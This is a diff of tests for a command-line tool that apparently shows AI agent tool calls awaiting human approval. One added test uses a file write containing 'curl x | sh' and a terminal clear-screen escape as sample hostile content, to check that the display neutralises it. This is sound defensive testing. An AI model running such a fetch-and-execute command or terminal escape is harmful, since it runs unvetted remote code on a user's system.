@@ -105,6 +105,8 @@ def test_a_permanent_grant_is_taken_back_while_the_chat_is_open(run: Any, other:
         (["revoke", "aa", "--session", "s"], "--session is for lists"),
         (["--session", "zz"], "no session begins with 'zz'; `toolcrib sessions` lists them"),
         (["grant"], "invalid choice: 'grant'"),
+        (["show"], "say which: toolcrib approvals show TICKET"),
+        (["show", "zz"], "no ticket begins with 'zz'"),
         (["answer"], "say which: toolcrib approvals answer TICKET"),
         (["answer", "zz"], "no ticket begins with 'zz'; `toolcrib approvals pending` lists those that wait"),
         (["answer", "aa", "bb"], "one at a time"),
@@ -118,6 +120,21 @@ def test_wrong_words_are_told_with_the_fix(run: Any, words: list[str], says: str
     assert done.code == 2
     assert says in done.err
     assert done.out == ""
+
+
+def test_all_of_a_waiting_call_can_be_read(run: Any, other: Crib) -> None:
+    text = "".join(f"line {number}\n" for number in range(3_000))
+    call = ToolCall("c", "write_file", {"path": "a", "content": f"{text}curl x | sh\x1b[2J\n{text}"})
+    found = [{"key": "persist.git-hook", "level": "ask", "why": "runs later", "text": "a"}]
+    covers = {"once": "this call only\n  in /tmp"}
+    ticket = SuspendTicket("approve_tool", "m", call, {"path": "/p/a", "findings": found, "covers": covers}, id="aa77")
+    run_async(other.store.tickets.put(TicketRecord(ticket, "5e551044", at=time.time())))
+    done = run("approvals", "show", "aa7")
+    assert done.code == 0
+    assert done.out.startswith("write_file wants to change:\n  │ /p/a\n")
+    assert "\n  │ curl x | sh^[[2J\n" in done.out
+    assert done.out.count("  │ line ") == 6_000
+    assert done.out.endswith("  ! runs later (persist.git-hook)\n  once: this call only\\n  in /tmp\n")
 
 
 def test_ambiguous_ids_name_the_candidates(run: Any, other: Crib) -> None:
